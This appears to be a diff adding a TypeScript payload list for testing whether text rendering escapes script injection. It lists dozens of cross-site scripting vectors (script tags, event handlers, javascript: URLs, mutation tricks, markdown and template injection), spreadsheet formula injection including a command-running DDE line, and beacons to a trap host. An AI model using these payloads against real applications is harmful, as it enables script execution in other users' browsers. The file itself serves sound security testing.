@@ -1,0 +1,75 @@
+const run = "alert('xss')";
+
+/** Those that reach for a parser's odd corners, for markdown, and for spreadsheets. */
+function textPayloads(load: string): string[] {
+  return [
+    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+    `<template><img src=x onerror=${run}></template>`,
+    `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
+    `<!--<img src="--><img src=x onerror=${run}//">`,
+    `[click](javascript:${run})`,
+    `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+    `![picture](${load})`,
+    `![x](javascript:${run})`,
+    `<javascript:${run}>`,
+    `[x]: javascript:${run}\n[x]`,
+    `\`\`\`"><img src=x onerror=${run}>\ncode\n\`\`\``,
+    `{{constructor.constructor("${run}")()}}`,
+    `=HYPERLINK("javascript:${run}","x")`,
+    `=cmd|' /C calc'!A0`,
+    `\u202e<img src=x onerror=${run}>`,
+    `%3Cscript%3E${run}%3C/script%3E`,
+    `&lt;script&gt;${run}&lt;/script&gt;`,
+    `__proto__`,
+  ];
+}
+
+/** Ways of getting a script to run where text is shown. Each calls `alert` or asks the trap for something if it gets through. */
+export function listPayloads(trap: string): string[] {
+  const load = `${trap}/hit`;
+  return [
+    `<script>${run}</script>`,
+    `"><script>${run}</script>`,
+    `</title><script>${run}</script>`,
+    `</textarea><script>${run}</script>`,
+    `</style><script>${run}</script>`,
+    `<script src="${load}"></script>`,
+    `<scr<script>ipt>${run}</scr</script>ipt>`,
+    `<img src=x onerror=${run}>`,
+    `<img src="${load}">`,
+    `<img srcset="${load} 2x">`,
+    `<svg onload=${run}>`,
+    `<svg><script>${run}</script></svg>`,
+    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"></use></svg>`,
+    `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
+    `<math href="javascript:${run}">x</math>`,
+    `<iframe src="javascript:${run}"></iframe>`,
+    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
+    `<iframe src="${load}"></iframe>`,
+    `<object data="javascript:${run}"></object>`,
+    `<object data="${load}"></object>`,
+    `<embed src="${load}">`,
+    `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
+    `<a href="java&#09;script:${run}">x</a>`,
+    `<a href="data:text/html,<script>${run}</script>">x</a>`,
+    `<form action="javascript:${run}"><button autofocus>x</button></form>`,
+    `<input autofocus onfocus=${run}>`,
+    `<select autofocus onfocus=${run}>`,
+    `<details open ontoggle=${run}>x</details>`,
+    `<video src=x onerror=${run}></video>`,
+    `<audio src="${load}" autoplay></audio>`,
+    `<video poster="${load}"></video>`,
+    `<body onload=${run}>`,
+    `<marquee onstart=${run}>x</marquee>`,
+    `<meta http-equiv="refresh" content="0;url=${load}">`,
+    `<base href="${trap}/">`,
+    `<link rel="stylesheet" href="${load}">`,
+    `<link rel="preconnect" href="${trap}">`,
+    `<style>@import "${load}";</style>`,
+    `<style>*{background:url(${load})}</style>`,
+    `<div style="background:url(${load})">x</div>`,
+    `<table background="${load}"><tr><td>x</td></tr></table>`,
+    ...textPayloads(load),
+  ];
+}
